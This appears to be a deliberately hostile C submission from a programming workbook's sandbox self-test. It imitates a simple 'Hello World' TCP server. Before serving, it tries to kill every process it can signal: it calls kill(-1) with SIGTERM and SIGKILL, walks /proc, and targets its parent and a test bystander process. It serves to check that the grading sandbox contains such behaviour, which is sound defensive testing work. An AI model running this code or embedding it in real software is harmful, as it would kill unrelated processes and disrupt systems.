/*
 * HOSTILE submission of chapters/01_hello/hello_server.c
 * does: kill(-1, SIGTERM), then kill(-1, SIGKILL) (every process it may
 *   signal but itself and init), then SIGKILL to each other pid in /proc,
 *   to its parent (as it was when it started) and to the pid in the
 *   environment variable WORKBOOK_HOSTILE_BYSTANDER if set (a test passes a
 *   process of its own there). Then it serves like the reference.
 * expect: nothing outside its sandbox dies, the bystander and the harness
 *   above all (own PID namespace: the only other process it can see or
 *   signal is the sandbox's init, which ignores it); the test goes on and
 *   its greeting still passes. "HOSTILE: killed ..." only says that kill()
 *   returned 0, not that the process died: the test checks the bystander.
 *
 * It attacks first, bounded (one pass over /proc), says on stderr what it
 * achieved (lines starting "HOSTILE:"), then serves like the reference, so
 * that only containment is under test (tests/selftest/test_sandbox.py).
 */
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

static int parse_port(const char *text, in_port_t *port)
{
    unsigned long value;
    const char *p;

    if (*text == '\0')
        return -1;
    for (p = text; *p != '\0'; p++)
        if (*p < '0' || *p > '9')
            return -1;
    errno = 0;
    value = strtoul(text, NULL, 10);
    if (errno != 0 || value < 1 || value > 65535)
        return -1;
    *port = (in_port_t)value;
    return 0;
}

/* socket(), bind() to the port, listen(): the descriptor, or exit(1) */
static int listen_on(in_port_t port)
{
    struct sockaddr_in addr;
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    int one = 1;

    if (fd == -1 || setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one) == -1) {
        perror("socket");
        exit(1);
    }
    memset(&addr, 0, sizeof addr);
    addr.sin_family = AF_INET;
    addr.sin_addr.s_addr = htonl(INADDR_ANY);
    addr.sin_port = htons(port);
    if (bind(fd, (struct sockaddr *)&addr, sizeof addr) == -1) {
        perror("bind");
        exit(1);
    }
    if (listen(fd, 5) == -1) {
        perror("listen");
        exit(1);
    }
    return fd;
}

static void greet(int listen_fd)
{
    int conn = accept(listen_fd, NULL, NULL);

    if (conn == -1) {
        perror("accept");
        exit(1);
    }
    if (write(conn, "Hello World!", 12) != 12)
        perror("write");
    close(conn);
}

#define MAX_NAMED 32   /* pids named one by one on stderr */

static void attack(void)
{
    pid_t self = getpid(), parent = getppid();
    const char *bystander = getenv("WORKBOOK_HOSTILE_BYSTANDER");
    struct dirent *entry;
    DIR *proc;
    long pid;
    int killed = 0, refused = 0;

    if (kill(-1, SIGTERM) == 0)
        fprintf(stderr, "HOSTILE: kill(-1, SIGTERM) succeeded\n");
    if (kill(-1, SIGKILL) == 0)
        fprintf(stderr, "HOSTILE: kill(-1, SIGKILL) succeeded\n");
    proc = opendir("/proc");
    while (proc != NULL && (entry = readdir(proc)) != NULL) {
        if (strspn(entry->d_name, "0123456789") != strlen(entry->d_name))
            continue;
        pid = strtol(entry->d_name, NULL, 10);
        if (pid <= 0 || pid == (long)self)
            continue;
        if (kill((pid_t)pid, SIGKILL) == 0) {
            if (killed++ < MAX_NAMED)
                fprintf(stderr, "HOSTILE: killed pid %ld\n", pid);
        } else
            refused++;
    }
    if (proc != NULL)
        closedir(proc);
    fprintf(stderr, "HOSTILE: SIGKILL accepted by %d pid(s) of /proc, refused by %d\n",
            killed, refused);
    if (parent > 1 && kill(parent, SIGKILL) == 0)
        fprintf(stderr, "HOSTILE: killed its parent %ld\n", (long)parent);
    if (bystander != NULL) {
        pid = strtol(bystander, NULL, 10);
        if (pid > 0 && kill((pid_t)pid, SIGKILL) == 0)
            fprintf(stderr, "HOSTILE: killed bystander %ld\n", pid);
        else
            fprintf(stderr, "HOSTILE: could not kill bystander %s\n", bystander);
    }
}

int main(int argc, char *argv[])
{
    in_port_t port;
    int fd;

    if (argc != 2) {
        fprintf(stderr, "Usage: hello_server <port>\n");
        return 1;
    }
    if (parse_port(argv[1], &port) == -1) {
        fprintf(stderr, "hello_server: invalid port '%s'\n", argv[1]);
        return 1;
    }
    signal(SIGPIPE, SIG_IGN);
    attack();
    fd = listen_on(port);
    greet(fd);
    return 0;
}
